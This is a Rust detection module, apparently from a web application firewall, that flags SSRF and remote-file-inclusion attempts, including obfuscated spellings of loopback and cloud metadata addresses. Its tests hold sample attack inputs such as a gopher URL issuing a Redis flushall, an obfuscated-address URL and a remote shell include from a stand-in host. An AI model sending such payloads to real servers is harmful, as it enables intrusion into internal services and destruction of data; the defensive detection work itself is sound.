//! Server-side request forgery and remote file inclusion: URLs the server is made to fetch.
//!
//! SSRF needs a URL whose host is the server's own side — a cloud metadata service, loopback, a
//! private range — or a scheme that talks to raw services (`gopher:`, `dict:`). Honest traffic
//! has `http://localhost:3000` in documentation text, so a plainly written internal host is only
//! flagged at paranoia 1 where the value is a URL-valued parameter (`url`, `callback`,
//! `webhook` …, see [`is_url_name`]); everywhere else it needs paranoia 2. Spellings no honest
//! client uses — a decimal, hex or octal address, `127.1`, an IPv6-mapped IPv4 — and the metadata
//! addresses are flagged wherever they appear.
//!
//! RFI needs an include-like parameter (`page`, `file`, `include` …) whose value is a remote URL;
//! a remote URL ending in `?` (which turns the server's appended suffix into a query string) is
//! flagged anywhere.

use super::{contains, find_all_in, push, Category, Present, Rule, CRITICAL, WARNING};

pub const METADATA: Rule = Rule::new("ssrf-cloud-metadata", Category::Ssrf, CRITICAL, 1);
pub const OBFUSCATED_HOST: Rule = Rule::new("ssrf-obfuscated-address", Category::Ssrf, CRITICAL, 1);
pub const RAW_SCHEME: Rule = Rule::new("ssrf-raw-scheme", Category::Ssrf, CRITICAL, 1);
pub const INTERNAL_IN_URL_PARAM: Rule =
    Rule::new("ssrf-internal-url-parameter", Category::Ssrf, CRITICAL, 1);
pub const INTERNAL_HOST: Rule = Rule::new("ssrf-internal-address", Category::Ssrf, WARNING, 2);
pub const RFI_PARAM: Rule = Rule::new("rfi-remote-include", Category::Rfi, CRITICAL, 1);
pub const RFI_QUERY_TRICK: Rule = Rule::new("rfi-trailing-query", Category::Rfi, CRITICAL, 1);

/// How a host is written and where it points.
#[derive(Debug, PartialEq, Eq)]
enum Host {
    Metadata,
    /// Internal, written as no honest client writes it.
    ObfuscatedInternal,
    Internal,
    /// An IPv4 literal that is public.
    PublicIp,
    Other,
}

/// Parses one IPv4 part the way `inet_aton` does: decimal, `0x` hex or `0` octal.
fn ipv4_part(p: &str) -> Option<(u64, bool)> {
    if p.is_empty() {
        return None;
    }
    let (digits, radix) = if let Some(h) = p.strip_prefix("0x") {
        (h, 16)
    } else if p.len() > 1 && p.starts_with('0') {
        (p.get(1..).unwrap_or_default(), 8)
    } else {
        (p, 10)
    };
    if digits.is_empty() && radix == 16 || digits.len() > 12 {
        return None;
    }
    let v = if digits.is_empty() {
        0
    } else {
        u64::from_str_radix(digits, radix).ok()?
    };
    Some((v, radix != 10))
}

/// `inet_aton`'s forms: `a.b.c.d`, `a.b.c` (last part 16 bits), `a.b` (24 bits), `a` (32 bits).
/// Returns the address and whether it was written in an unusual form.
fn parse_ipv4(h: &str) -> Option<(u32, bool)> {
    let parts: Vec<&str> = h.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return None;
    }
    let mut vals = Vec::with_capacity(4);
    let mut odd = parts.len() != 4;
    for p in &parts {
        let (v, o) = ipv4_part(p)?;
        odd |= o;
        vals.push(v);
    }
    let (last, head) = vals.split_last()?;
    let mut addr: u64 = 0;
    for (k, v) in head.iter().enumerate() {
        if *v > 255 {
            return None;
        }
        addr |= v << (24 - 8 * k);
    }
    let room = 32 - 8 * head.len() as u32;
    if *last >= 1u64 << room {
        return None;
    }
    addr |= last;
    u32::try_from(addr).ok().map(|a| (a, odd))
}

fn internal_v4(a: u32) -> bool {
    let [x, y, ..] = a.to_be_bytes();
    x == 127
        || x == 10
        || x == 0
        || (x == 172 && (16..32).contains(&y))
        || (x == 192 && y == 168)
        || (x == 169 && y == 254)
        || (x == 100 && (64..128).contains(&y))
}

fn metadata_v4(a: u32) -> bool {
    a == 0xa9fe_a9fe || a == 0x6464_64c8 // 169.254.169.254, 100.100.100.200 (Alibaba)
}

fn classify(host: &str) -> Host {
    let host = host.trim_end_matches('.');
    if matches!(
        host,
        "metadata.google.internal" | "metadata" | "instance-data" | "metadata.azure.com"
    ) || host.ends_with(".internal") && host.starts_with("metadata")
    {
        return Host::Metadata;
    }
    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        return classify_v6(v6);
    }
    if let Some((a, odd)) = parse_ipv4(host) {
        if metadata_v4(a) {
            return Host::Metadata;
        }
        return match (internal_v4(a), odd) {
            (true, true) => Host::ObfuscatedInternal,
            (true, false) => Host::Internal,
            (false, _) => Host::PublicIp,
        };
    }
    if host == "localhost" || host.ends_with(".localhost") || host == "localtest.me" {
        return Host::Internal;
    }
    // Wildcard DNS services that answer with the address written in the name.
    for w in [".nip.io", ".sslip.io", ".xip.io", ".localtest.me"] {
        if let Some(name) = host.strip_suffix(w) {
            let tail: Vec<&str> = name.rsplit(['.', '-']).take(4).collect();
            let ip: Vec<&str> = tail.into_iter().rev().collect();
            if parse_ipv4(&ip.join(".")).is_some_and(|(a, _)| internal_v4(a))
                || w == ".localtest.me"
            {
                return Host::ObfuscatedInternal;
            }
        }
    }
    Host::Other
}

fn classify_v6(h: &str) -> Host {
    if h == "fd00:ec2::254" {
        return Host::Metadata;
    }
    // IPv4-mapped / -compatible: `::ffff:127.0.0.1`, `::ffff:7f00:1`, `0:0:0:0:0:ffff:…`.
    let tail = h.rsplit(':').next().unwrap_or_default();
    let mapped = h.contains("ffff:") || h.starts_with("::") && tail.contains('.');
    if mapped {
        let v4 = if tail.contains('.') {
            parse_ipv4(tail).map(|(a, _)| a)
        } else {
            // The last two groups in hex.
            let groups: Vec<&str> = h.rsplit(':').take(2).collect();
            match groups.as_slice() {
                [lo, hi] => match (u32::from_str_radix(hi, 16), u32::from_str_radix(lo, 16)) {
                    (Ok(hi), Ok(lo)) if hi <= 0xffff && lo <= 0xffff => Some(hi << 16 | lo),
                    _ => None,
                },
                _ => None,
            }
        };
        return match v4 {
            Some(a) if metadata_v4(a) => Host::Metadata,
            Some(a) if internal_v4(a) => Host::ObfuscatedInternal,
            _ => Host::Other,
        };
    }
    let compact: String = h.chars().filter(|c| *c != '0' && *c != ':').collect();
    if compact == "1" && h.ends_with('1') || compact.is_empty() {
        return Host::Internal; // ::1, ::
    }
    if h.starts_with("fc") || h.starts_with("fd") || h.starts_with("fe80") {
        return Host::Internal;
    }
    Host::Other
}

/// The host of the URL whose `://` is at `i`, and the URL's remainder.
fn host_at(s: &str, i: usize) -> (&str, &str) {
    let rest = s.get(i + 3..).unwrap_or_default();
    let end = rest
        .find(|c: char| {
            matches!(
                c,
                '/' | '?' | '#' | '\\' | ' ' | '"' | '\'' | '<' | '>' | '\n'
            )
        })
        .unwrap_or(rest.len());
    let authority = rest.get(..end).unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let host = if host_port.starts_with('[') {
        host_port.split_inclusive(']').next().unwrap_or_default()
    } else {
        host_port.split(':').next().unwrap_or_default()
    };
    (host, rest.get(end..).unwrap_or_default())
}

fn scheme_before(s: &str, i: usize) -> &str {
    let b = s.as_bytes();
    let mut j = i;
    while j > 0
        && b.get(j - 1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-'))
    {
        j -= 1;
    }
    s.get(j..i).unwrap_or_default()
}

/// Value-only checks, for every value.
pub fn detect(s: &str, out: &mut Vec<Rule>) {
    detect_with(s, &Present::of(s), out);
}

/// [`detect`] with the value's byte set computed once by the caller.
pub(crate) fn detect_with(s: &str, p: &Present, out: &mut Vec<Rule>) {
    urls(s, p, false, out);
}

/// `p` holds the bytes of `s`: a search for something whose bytes are not all there is skipped.
fn urls(s: &str, p: &Present, url_param: bool, out: &mut Vec<Rule>) -> bool {
    // A bare metadata address without a scheme: `169.254.169.254/latest/meta-data`.
    if contains(s, p, "169.254.169.254") || contains(s, p, "/latest/meta-data") {
        push(out, METADATA);
    }
    if !p.has(b':') {
        return false;
    }
    let mut remote = false;
    for scheme in ["gopher://", "dict://", "tftp://", "netdoc:/", "jar:http"] {
        for i in find_all_in(s, p, scheme) {
            let b = s.as_bytes();
            if i == 0 || !b.get(i - 1).is_some_and(u8::is_ascii_alphanumeric) {
                push(out, RAW_SCHEME);
            }
        }
    }
    for i in find_all_in(s, p, "://") {
        let scheme = scheme_before(s, i);
        let (host, rest) = host_at(s, i);
        match classify(host) {
            Host::Metadata => push(out, METADATA),
            Host::ObfuscatedInternal => push(out, OBFUSCATED_HOST),
            Host::Internal if url_param => push(out, INTERNAL_IN_URL_PARAM),
            Host::Internal => push(out, INTERNAL_HOST),
            Host::PublicIp | Host::Other => {}
        }
        if matches!(scheme, "http" | "https" | "ftp" | "ftps") && !host.is_empty() {
            remote = true;
            // `http://x/shell.txt?` — a remote file whose appended suffix becomes a query.
            // Only for a URL that starts the value (`i < 16`), checked first: trimming the
            // end for every URL of a long value would be quadratic.
            if i < 16 {
                let r = rest.trim_end_matches(['\0', ' ']);
                if r.len() > 1 && (r.ends_with('?') || r.ends_with("?&")) {
                    push(out, RFI_QUERY_TRICK);
                }
            }
        }
    }
    remote
}

/// `name` lower-cased, copied only when it has an upper-case letter (JSON keys are checked for
/// every string value, and most are lower-case already).
fn lower(name: &str) -> std::borrow::Cow<'_, str> {
    if name.bytes().any(|c| c.is_ascii_uppercase()) {
        std::borrow::Cow::Owned(name.to_ascii_lowercase())
    } else {
        std::borrow::Cow::Borrowed(name)
    }
}

/// Parameter and JSON key names that carry a URL the server fetches.
pub fn is_url_name(name: &str) -> bool {
    // Names of values the server fetches. `link`, `href`, `next` are shown to users or followed
    // by browsers, and honestly hold `http://localhost:3000` in development data.
    const WORDS: [&str; 12] = [
        "url", "uri", "callback", "webhook", "dest", "target", "feed", "endpoint", "proxy", "src",
        "fetch", "remote",
    ];
    let n = lower(name);
    WORDS.iter().any(|w| n.contains(w)) || n == "host" || n.ends_with("_image")
}

/// Parameter names an application passes to `include`/`require` or a template loader.
pub fn is_include_name(name: &str) -> bool {
    const NAMES: [&str; 16] = [
        "page", "file", "include", "inc", "template", "tpl", "module", "lang", "dir", "doc",
        "folder", "layout", "view", "load", "conf", "content",
    ];
    let n = lower(name);
    let n = n.trim_end_matches(['[', ']']);
    NAMES.contains(&n) || n.ends_with("_file") || n.ends_with("_path") || n.ends_with("_page")
}

/// Checks a value knowing the name of the parameter or JSON key that carries it.
pub fn check_named(name: &str, lower: &str, out: &mut Vec<Rule>) {
    let remote = urls(lower, &Present::of(lower), is_url_name(name), out);
    let t = lower.trim_start();
    let remote_start = t.starts_with("http://")
        || t.starts_with("https://")
        || t.starts_with("ftp://")
        || t.starts_with("//") && t.len() > 2;
    if is_include_name(name) && (remote_start || remote && t.starts_with("\\\\")) {
        push(out, RFI_PARAM);
    }
}

/// Whether [`check_named`] has anything to add for this name.
pub fn wants(name: &str) -> bool {
    is_url_name(name) || is_include_name(name)
}

#[cfg(test)]
mod tests {
    use super::super::rule_ids;
    use super::*;

    #[test]
    fn address_spellings() {
        assert_eq!(classify("169.254.169.254"), Host::Metadata);
        assert_eq!(classify("2852039166"), Host::Metadata);
        assert_eq!(classify("0xa9fea9fe"), Host::Metadata);
        assert_eq!(classify("0251.0376.0251.0376"), Host::Metadata);
        assert_eq!(classify("[::ffff:a9fe:a9fe]"), Host::Metadata);
        assert_eq!(classify("127.1"), Host::ObfuscatedInternal);
        assert_eq!(classify("2130706433"), Host::ObfuscatedInternal);
        assert_eq!(classify("0x7f000001"), Host::ObfuscatedInternal);
        assert_eq!(classify("017700000001"), Host::ObfuscatedInternal);
        assert_eq!(classify("[::ffff:127.0.0.1]"), Host::ObfuscatedInternal);
        assert_eq!(classify("0"), Host::ObfuscatedInternal);
        assert_eq!(classify("127.0.0.1.nip.io"), Host::ObfuscatedInternal);
        assert_eq!(classify("127.0.0.1"), Host::Internal);
        assert_eq!(classify("[::1]"), Host::Internal);
        assert_eq!(classify("localhost"), Host::Internal);
        assert_eq!(classify("10.1.2.3"), Host::Internal);
        assert_eq!(classify("8.8.8.8"), Host::PublicIp);
        assert_eq!(classify("api.example.com"), Host::Other);
        assert_eq!(classify("1.2.3.4.5"), Host::Other);
    }

    #[test]
    fn paranoia_follows_the_context() {
        let mut out = Vec::new();
        detect("http://localhost:3000 is the dev server", &mut out);
        assert!(out.iter().all(|r| r.paranoia > 1), "{out:?}");
        let mut out = Vec::new();
        check_named("callback_url", "http://localhost:3000/cb", &mut out);
        assert_eq!(out, vec![INTERNAL_IN_URL_PARAM]);
        assert!(rule_ids(detect, "gopher://127.0.0.1:6379/_flushall").contains(&"ssrf-raw-scheme"));
        assert!(rule_ids(detect, "http://evil.example@2130706433/")
            .contains(&"ssrf-obfuscated-address"));
        assert!(rule_ids(detect, "https://api.example.com/v1?x=1").is_empty());
        assert!(rule_ids(detect, "see the dictionary: dict: a word list").is_empty());
        let mut out = Vec::new();
        check_named("page", "http://evil.example/shell.txt", &mut out);
        assert_eq!(out, vec![RFI_PARAM]);
        let mut out = Vec::new();
        check_named("image_url", "https://cdn.example.net/a.jpg?w=1", &mut out);
        check_named("page", "2", &mut out);
        assert!(out.is_empty());
    }
}
